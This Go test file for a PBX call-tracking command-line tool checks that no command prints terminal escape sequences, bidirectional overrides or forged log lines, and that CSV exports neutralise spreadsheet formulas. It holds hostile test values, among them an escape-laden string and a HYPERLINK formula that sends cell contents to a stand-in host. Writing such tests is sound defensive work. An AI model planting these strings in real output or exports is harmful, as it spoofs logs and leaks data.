package cmd

import (
	"context"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"traybell/hub/ami/amitest"
	"traybell/hub/audit"
	"traybell/hub/blocking"
	"traybell/hub/cdr"
	"traybell/hub/config"
	"traybell/hub/store"
	"traybell/hub/trace"
	"traybell/hub/tracking"
	"traybell/shared/protocol"

	"github.com/alecthomas/kong"
	"github.com/alexedwards/argon2id"
)

// evil clears a terminal's screen, sets its title, turns the rest of the line around, hides
// characters, and begins new lines.
const evil = "\x1b[2J\x1b]0;owned\a\u009b31m\u202edrow\u2066\u200bzero\ufeff\u2028two\nlevel=ERROR\r\x00\x7f" +
	"\U000e0041end"

// printed is a stream of a command, written and read at the same time.
type printed struct {
	mu   sync.Mutex
	text strings.Builder
}

func (p *printed) Write(b []byte) (int, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.text.Write(b)
}

func (p *printed) String() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.text.String()
}

// Whatever the PBX, desktops, directories and help desks sent: no command prints a character that a
// terminal obeys, or a line that is not its own.
func TestNoCommandPrintsWhatATerminalObeys(t *testing.T) {
	pbx := newPBX(t, amitest.Options{})
	hash, err := argon2id.CreateHash("secret",
		&argon2id.Params{Memory: 64, Iterations: 1, Parallelism: 1, SaltLength: 16, KeyLength: 16})
	if err != nil {
		t.Fatal(err)
	}
	path := site(t, fmt.Sprintf(siteYAML, pbxYAML("main", pbx.Addr(), ""))+
		"agents: [{login: anna, name: Anna, extensions: [\"101\"], password: \""+hash+"\"}]\n"+
		"rules: [{name: all, then: {comment: Hello}}]\n")
	dir := filepath.Dir(path)
	write(t, dir, "customers.csv", "login;name;phone\nivanov;Ivan "+strings.ReplaceAll(strings.ReplaceAll(evil, "\x00",
		""), "\n", "")+";+7 (495) 123-45-67\n"+evil+"\n")
	people := filepath.Join(dir, "people.csv")
	write(t, dir, "people.csv", "login;name;extensions\nboris;Boris \x1b[2J\u202e;102\n")
	cfg, err := config.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	s, err := store.Open(t.Context(), filepath.Join(cfg.DataDir, "traybell.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.Close() })
	fill(t, s)

	out := map[string]string{}
	for name, c := range map[string]struct {
		args  []string
		shows bool // texts from outside
	}{
		"check":      {args: []string{"check", "-c", path}, shows: false},
		"cdr export": {args: []string{"cdr", "export", "--from", "2026-11-01", "--to", "2026-11-30", "-c", path}},
		"number":     {args: []string{"number", "--find", "84951234567", "-c", path}},
		"rule": {
			args: []string{"rule", "--from", "2026-11-01", "--to", "2026-11-30", "-c", path}, shows: true,
		},
		"numbers":   {args: []string{"numbers", "-c", path}, shows: true},
		"why":       {args: []string{"why", "-c", path}, shows: true},
		"notes":     {args: []string{"notes", "84951234567", "-c", path}, shows: true},
		"audit":     {args: []string{"audit", "-c", path}, shows: true},
		"join-link": {args: []string{"join-link", "101", "--server", evil, "-c", path}},
		"schema":    {args: []string{"schema"}},
		"setup": {args: []string{
			"setup", "--no-ask", "--answers", filepath.Join(dir, strings.ReplaceAll(evil, "\n", "")), "-c", path,
		}},
		"agents import": {args: []string{"agents", "import", people, "--dry-run", "-c", path}},
		"passwd":        {args: []string{"passwd", "--extension", evil, "-c", path}},
		"webhook":       {args: []string{"webhook", "--test", evil, "-c", path}},
		"test-call":     {args: []string{"test-call", "--agent", evil, "-c", path}},
		"token":         {args: []string{"token", evil}},
		"health":        {args: []string{"health", "-c", path}},
		"reload":        {args: []string{"reload", "-c", path}},
		"recordings":    {args: []string{"recordings", "--delete", evil, "-c", path}},
		"backup": {args: []string{
			"backup", filepath.Join(dir, strings.ReplaceAll(evil, "\x00", "")),
			"-c", path,
		}},
		"version": {args: []string{"version"}},
		"tail":    {args: []string{"tail", "-c", path}, shows: true},
		"serve":   {args: []string{"serve", "-c", filepath.Join(dir, strings.ReplaceAll(evil, "\n", ""))}},
		"demo":    {args: []string{"demo", "--dir", filepath.Join(path, evil)}},
	} {
		var stdout, stderr printed
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		if name == "tail" {
			go func() {
				for ctx.Err() == nil && !strings.Contains(stdout.String(), "First seen") {
					add(t, s, fmt.Sprint("main:tail", time.Now().UnixNano()))
					<-time.After(100 * time.Millisecond)
				}
				cancel()
			}()
		}
		err := Run(ctx, "test", c.args, &stdout, &stderr)
		cancel()
		text := stdout.String() + stderr.String()
		if err != nil {
			var said printed
			failed(&said, err)
			text += said.String()
		}
		out[name] = text
		for _, r := range text {
			if r == utf8.RuneError || r != '\n' && r != '\t' && !unicode.IsGraphic(r) {
				t.Errorf("%s prints %q:\n%q", name, r, text)
				break
			}
		}
		for line := range strings.Lines(text) {
			if strings.HasPrefix(line, "level=ERROR") {
				t.Errorf("%s prints a line that came from outside:\n%s", name, text)
			}
		}
		if c.shows && !strings.Contains(text, `\x1b[2J`) {
			t.Errorf("%s does not show the text:\n%s", name, text)
		}
	}
	var cmd commands
	for _, leaf := range kong.Must(&cmd, kong.Vars{"temp": "", "version": ""}).Model.Leaves(true) {
		if _, name, _ := strings.Cut(leaf.FullPath(), " "); out[name] == "" {
			t.Errorf("%q is not tested, or prints nothing", name)
		}
	}
}

// add adds a trace with hostile texts.
func add(t *testing.T, s *store.Store, call string) {
	t.Helper()
	now := time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)
	var steps []trace.Step
	for _, what := range []trace.What{
		trace.Seen, trace.Number, trace.Endpoints, trace.Guessed, trace.Impostor, trace.Pretends, trace.Line,
		trace.Untracked, trace.Looked, trace.Blocked, trace.Late, trace.Legs, trace.Told, trace.NotTold, trace.Off,
		trace.Sent, trace.Away, trace.Snapshot, trace.Shown, trace.Hidden, trace.State, trace.Pressed, trace.Refused,
		trace.Queued, trace.Ticket, trace.Noted, trace.NoTicket, trace.What(evil),
	} {
		steps = append(steps, trace.Step{
			At: now, What: what, Text: evil, Why: evil, Words: []string{evil, evil}, Agents: []string{evil},
		})
	}
	if err := s.KeepTraces(context.WithoutCancel(t.Context()), []trace.Trace{{
		CallID: call + evil, PBX: "main", Direction: protocol.Incoming, Number: evil, Name: evil, DID: evil,
		Party: "+74951234567", At: now, Steps: steps,
	}}); err != nil {
		t.Error(err)
	}
}

// fill fills a database with hostile texts.
func fill(t *testing.T, s *store.Store) {
	t.Helper()
	add(t, s, "main:1")
	now := time.Date(2026, 11, 22, 12, 0, 0, 0, time.Local)
	err := s.Records(cdr.File{}).KeepRecords(t.Context(), []cdr.Record{{
		CallID: "main:1" + evil, PBX: "main", State: cdr.Final, Direction: protocol.Incoming, Number: evil, Name: evil,
		DID: evil, Exten: evil, CID: evil, Line: evil, Extension: evil, Agent: evil, Started: now, Ended: now,
		Blocked: evil, Customer: evil, CustomerName: evil, Company: evil, Ticket: evil, TicketURL: evil,
	}}, nil)
	if err == nil {
		err = s.SetCategory(t.Context(), protocol.Category{
			Number: "+74951234567", Color: protocol.Color(evil), Comment: evil, Author: evil, Changed: now,
		})
	}
	if err == nil {
		_, err = s.BeginBlock(t.Context(), blocking.Block{
			Number: "+74951234567", Blocked: true, Reason: evil, Agent: evil, Name: evil, At: now,
			State: blocking.Pending, Entries: []blocking.Entry{{PBX: evil, Form: evil, Error: evil}},
		})
	}
	if err == nil {
		err = s.CountUntracked(t.Context(), []tracking.Untracked{
			{PBX: evil, Number: evil, Calls: 1, First: now, Last: now},
		}, 10)
	}
	if err == nil {
		err = s.KeepAudit(t.Context(), []audit.Entry{{
			At: now, Kind: evil, Who: evil, From: evil, Action: evil, Object: evil, Detail: evil, Error: evil,
		}})
	}
	if err != nil {
		t.Fatal(err)
	}
}

// No column of the export is a formula.
func TestExportHasNoFormulas(t *testing.T) {
	path := site(t, fmt.Sprintf(siteYAML, pbxYAML("main", "127.0.0.1:1", "")))
	s, err := store.Open(t.Context(), filepath.Join(filepath.Dir(path), "traybell.db"))
	if err != nil {
		t.Fatal(err)
	}
	const formula = `=HYPERLINK("http://x.example/?"&A1;"click")`
	now := time.Date(2026, 11, 22, 12, 0, 0, 0, time.Local)
	if err := s.Records(cdr.File{}).KeepRecords(t.Context(), []cdr.Record{{
		CallID: formula, PBX: formula, State: cdr.Final, Direction: formula, Number: formula, Name: formula,
		DID: formula, Exten: formula, CID: formula, AnsweredBy: formula, Line: formula, Extension: formula,
		Agent: formula, CalleeAgent: formula, Started: now, Ended: now, Blocked: formula, Customer: formula,
		CustomerName: formula, Company: formula, Ticket: formula, TicketURL: formula,
	}}, nil); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	out, err := try(t, "cdr", "export", "--from", "2026-11-01", "--to", "2026-11-30", "-c", path)
	if err != nil || strings.Count(out, `"'=HYPERLINK(`) < 12 {
		t.Errorf("%v in\n%s", err, out)
	}
	for _, cell := range strings.FieldsFunc(out, func(r rune) bool { return slices.Contains([]rune(";,\n"), r) }) {
		if strings.HasPrefix(strings.TrimLeft(cell, `"`), "=") {
			t.Errorf("%s in\n%s", cell, out)
		}
	}
}
